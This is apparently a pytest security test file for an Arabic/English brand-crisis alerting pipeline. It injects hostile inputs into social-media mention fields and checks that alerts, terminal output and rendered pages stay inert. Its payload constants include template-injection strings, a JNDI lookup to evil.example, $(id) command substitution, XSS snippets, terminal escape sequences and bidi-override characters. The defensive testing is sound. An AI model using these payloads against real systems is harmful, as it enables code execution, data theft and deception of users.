"""An attacker writes every mention of a crisis: it is told all the same, and harmlessly."""

from __future__ import annotations

import io
import json
import re
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import msgspec
import orjson
import pytest
from rich.console import Console

from alerts.records import Alert
from alerts.show import headline, print_alert, render_page
from models.records import Evidence, Rejection
from streams.config import load
from streams.decode import MAX_LINE_BYTES, REASONS
from streams.replay import replay, write_results
from streams.sources import open_source
from streams.store import Store
from tests.running import crisis, mention, nadhir, write_config, write_lines

PRODUCT = str(7191 * 7)  # what a template that is evaluated would show
TEMPLATES = (
    "{{7191*7}} {{ config }} {{ ''.__class__.__mro__ }}",
    "{% for i in range(10**9) %}x{% endfor %}{% include '/etc/passwd' %}",
    "${7191*7} #{7191*7} <%= 7191*7 %> ${jndi:ldap://evil.example/a}",
    "{0.__class__} {brand_en.__class__} %(x)s %s %n $(id) `id`",
)
MARKUP = (
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(1)> '\" onmouseover='alert(1)",
    "</style><style>*{display:none}</style><!-- --> ]]>",
    "[bold red]rich[/bold red] [link=https://evil.example]click[/link]",
)
TERMINAL = (
    "\x1b[2J\x1b[H\x1b]0;owned\x07\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x9b31mred \x90q\x9c \r\x08\x08\x08 \x7f \x85",
)
UNICODE = (
    "\u202eevil\u202c \u2066a\u2069 \u2067b\u2069 \u200f\u200e",
    "z\u200be\u200cr\u200do\ufeff\u00ad\u2060 w",
    "nul \0 here \0",
    "👩‍👩‍👧‍👦" * 400 + "🏳️‍🌈" * 400,
    "e" + "\u0301" * 3_000,
    "\U000e0041\U000e0042 \ufdfd \ufff9x\ufffa",
    "\u2028line\u2029paragraph",
)
PAYLOADS = (*TEMPLATES, *MARKUP, *TERMINAL, *UNICODE)
# what may never leave in text for people: it steers the terminal or the order of reading
STEERING = re.compile(
    "[\0-\x08\x0b-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2066\u2067\u2028\u2029\ufeff]"
)
CRISIS_FROM = "2026-03-02T09:02"


def attacked(line: bytes, i: int) -> bytes:
    """A mention of the crisis with every field that a stranger writes taken over."""
    record: dict[str, Any] = json.loads(line)
    payload = PAYLOADS[i % len(PAYLOADS)]
    long = "a" if i % 2 else "ا"
    text = long * (20_000 - 60) if i % 29 == 0 else payload
    record["text"] = f"{text}{i} بنك رمال متوقف والتطبيق معطل، خدمة سيئة"[-20_000:]
    record["platform"] = payload[:60] + str(i % 3)
    record["url"] = ("javascript:alert(1)//" + payload)[:4_096]
    record["links"] = [payload[:4_096], "http://[", "https://evil.example/" + payload[:100]]
    record["country"] = payload[:64]
    record["lang"] = payload[:35]
    record["in_reply_to"] = record["repost_of"] = payload[:256]
    author = record.setdefault("author", {})
    author |= {
        "id": f"{payload[:200]}{i}",
        "handle": f"{payload[:200]}{i}",
        "name": payload[:1_000],
        "bio": payload[:10_000],
        "url": "javascript:alert(1)",
        "followers": 2**53,
    }
    return json.dumps(record).encode()


def poison() -> dict[str, bytes]:
    """One line for every reason of rejection."""
    good = json.loads(mention("p", "بنك رمال"))
    broken: dict[str, Any] = {
        "missing_key": {k: v for k, v in good.items() if k != "text"},
        "wrong_type": good | {"text": 5},
        "bad_value": good | {"kind": "{{7191*7}}"},
        "empty_id": good | {"id": ""},
        "text_too_long": good | {"text": "a" * 20_001},
        "field_too_long": good | {"platform": "x", "url": "u" * 5_000},
        "bad_time": good | {"published_at": "yesterday \x1b[2J"},
        "time_in_future": good | {"published_at": "2100-01-01T00:00:01Z"},
        "time_too_old": good | {"published_at": "1999-12-31T23:59:59Z"},
        "bad_row": {"csv_error": "syntax", "csv_row": "{{7191*7}}"},
    }
    return {
        **{reason: json.dumps(record).encode() for reason, record in broken.items()},
        "not_json": b"{\x1b[2J{{7191*7}}",
        "not_utf8": b'{"id": "\xff\xfe"}',
        "too_deep": b"[" * 5_000 + b"]" * 5_000,
        "not_object": b'["<script>"]',
        "line_too_large": b'{"text": "' + b"a" * MAX_LINE_BYTES + b'"}',
    }


@dataclass(frozen=True)
class Outcome:
    """What the pipeline made of it."""

    folder: Path
    store: Path
    mentions: int
    counted: int
    alerts: list[Alert]
    rejected: list[Rejection]


@pytest.fixture(scope="module")
def outcome(tmp_path_factory: pytest.TempPathFactory) -> Outcome:
    folder = tmp_path_factory.mktemp("hostile")
    config = load(write_config(folder), {})
    lines: list[bytes] = []
    poisons = list(poison().values())
    for i, line in enumerate(crisis()):
        hit = json.loads(line)["published_at"] >= CRISIS_FROM
        lines.append(attacked(line, i) if hit else line)
        if i % 100 == 0:
            lines.append(poisons[i // 100 % len(poisons)])
    source = open_source(str(write_lines(folder / "mentions.jsonl", lines)))
    done = replay(source, config, folder / "hostile.db")
    source.close()
    store = Store(done.store)
    alerts = [case.alert for case in store.cases()]
    rejected = [r for _, r, _ in store.rejected()]
    store.close()
    counters = done.counters
    return Outcome(folder, done.store, counters.mentions, counters.observations, alerts, rejected)


class TestPipeline:
    def test_nothing_valid_is_refused_and_the_stream_goes_on(self, outcome: Outcome) -> None:
        assert outcome.mentions == len(crisis())
        assert outcome.counted == len(crisis()), "each is still about the brand"

    def test_the_crisis_is_told(self, outcome: Outcome) -> None:
        assert len(outcome.alerts) >= 1
        [alert, *_] = outcome.alerts
        assert alert.brand == "rimal-bank"
        assert alert.opened_at > CRISIS_FROM
        assert alert.evidence

    def test_poison_of_every_kind_is_kept_as_it_came(self, outcome: Outcome) -> None:
        sent = poison()
        assert set(sent) == set(REASONS)
        kept = {r.reason: r.raw for r in outcome.rejected}
        assert kept == sent | {"line_too_large": sent["line_too_large"][:MAX_LINE_BYTES]}
        assert len(outcome.rejected) == -(-len(crisis()) // 100)

    def test_details_never_repeat_what_was_sent(self, outcome: Outcome) -> None:
        said = "".join(r.detail for r in outcome.rejected)
        assert not STEERING.search(said)
        assert "7191" not in said


class TestAlert:
    def test_the_records_are_json_that_any_reader_takes(self, outcome: Outcome) -> None:
        files = {n: outcome.folder / f"{n}.jsonl" for n in ("alerts", "signals", "decisions")}
        write_results(outcome.store, **files)
        for name, file in files.items():
            content = file.read_bytes()
            assert content, name
            for line in content.splitlines():
                assert orjson.loads(line) == json.loads(line)
            assert PRODUCT.encode() not in content, f"{name}: a template was evaluated"
            assert b"<class" not in content, name
            if name != "signals":  # those keep what was written, for machines
                assert not STEERING.search(content.decode().replace("\n", "")), name

    def test_our_own_words_hold_nothing_that_steers(self, outcome: Outcome) -> None:
        for alert in outcome.alerts:
            words = [*alert.terms, alert.title.ar, alert.title.en]
            words += [m.text for m in alert.playbook.messages]
            told = alert.explanation
            for sentence in (told.observed, told.expected, told.about):
                words += [sentence.ar, sentence.en] if sentence else []
            for text in words:
                assert not STEERING.search(text.replace("\n", "")), text
                assert "<script" not in text
                assert "{" not in text, "neither a template nor an open placeholder"

    def test_prepared_messages_hold_no_link_of_a_stranger(self, outcome: Outcome) -> None:
        for alert in outcome.alerts:
            for message in alert.playbook.messages:
                assert "evil.example" not in message.text
                assert message.length < 20_000


class TestTerminal:
    def shown(self, alert: Alert, **how: Any) -> str:
        out = io.StringIO()
        print_alert(alert, Console(file=out, width=100, **how.pop("console", {})), **how)
        return out.getvalue()

    def test_a_pipe_gets_plain_text(self, outcome: Outcome) -> None:
        for alert in outcome.alerts:
            assert not STEERING.search(self.shown(alert).replace("\n", ""))

    @pytest.mark.parametrize("arabic", ["visual", "logical"])
    def test_a_terminal_gets_colours_and_nothing_else(self, outcome: Outcome, arabic: str) -> None:
        console = {"force_terminal": True, "color_system": "truecolor"}
        for alert in outcome.alerts:
            text = self.shown(alert, console=console, arabic=arabic)
            plain = re.sub(r"\x1b\[[0-9;]*m", "", text)
            assert not STEERING.search(plain.replace("\n", ""))
            assert len(plain) < 40_000

    def test_markup_of_the_console_is_text(self, outcome: Outcome) -> None:
        for alert in outcome.alerts:
            assert "\x1b]8" not in self.shown(alert, console={"force_terminal": True})

    def test_one_line_is_one_line(self, outcome: Outcome) -> None:
        for alert in outcome.alerts:
            for language in ("ar", "en"):
                line = headline(alert, language)
                assert not any(unicodedata.category(c) in ("Cc", "Zl", "Zp") for c in line)


def harmless(alert: Alert) -> Alert:
    """The same alert, had strangers written nothing but an x."""

    def tame(item: Evidence) -> Evidence:
        plain = {"text": "x", "platform": "x", "handle": "x", "name": "x", "url": "x"}
        kept = {name: value for name, value in plain.items() if getattr(item, name) is not None}
        return msgspec.structs.replace(item, id="x", author_id="x", **kept)

    return msgspec.structs.replace(
        alert,
        terms=tuple("x" for _ in alert.terms),
        platforms={f"x{i}": n for i, n in enumerate(alert.platforms.values())},
        evidence=tuple(map(tame, alert.evidence)),
    )


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


class TestPage:
    @pytest.fixture(scope="class")
    @staticmethod
    def page(outcome: Outcome) -> str:
        return render_page(outcome.alerts, {})

    def tags(self, page: str) -> Iterator[tuple[str, dict[str, str | None]]]:
        parser = _Tags()
        parser.feed(page)
        yield from parser.found

    def test_strangers_add_no_element_and_no_attribute(self, page: str, outcome: Outcome) -> None:
        plain = render_page([harmless(alert) for alert in outcome.alerts], {})
        assert [(tag, *sorted(attributes)) for tag, attributes in self.tags(page)] == [
            (tag, *sorted(attributes)) for tag, attributes in self.tags(plain)
        ]
        for _, attributes in self.tags(page):
            for value in attributes.values():
                assert "evil.example" not in (value or "")
                assert "alert(1)" not in (value or "")

    def test_nothing_was_evaluated_and_nothing_steers(self, page: str) -> None:
        assert PRODUCT not in page
        assert "<class" not in page
        assert not STEERING.search(page.replace("\n", ""))


class TestCommands:
    @pytest.mark.parametrize(
        "command", [("rejected", "list"), ("decisions", "--lang", "ar"), ("decisions",)]
    )
    def test_what_they_print_steers_nothing(
        self, outcome: Outcome, command: tuple[str, ...]
    ) -> None:
        done = nadhir(*command, "--store", outcome.store, cwd=outcome.folder)
        assert done.returncode == 0, done.stderr.decode()
        text = done.stdout.decode()
        assert text
        assert not STEERING.search(text.replace("\n", ""))
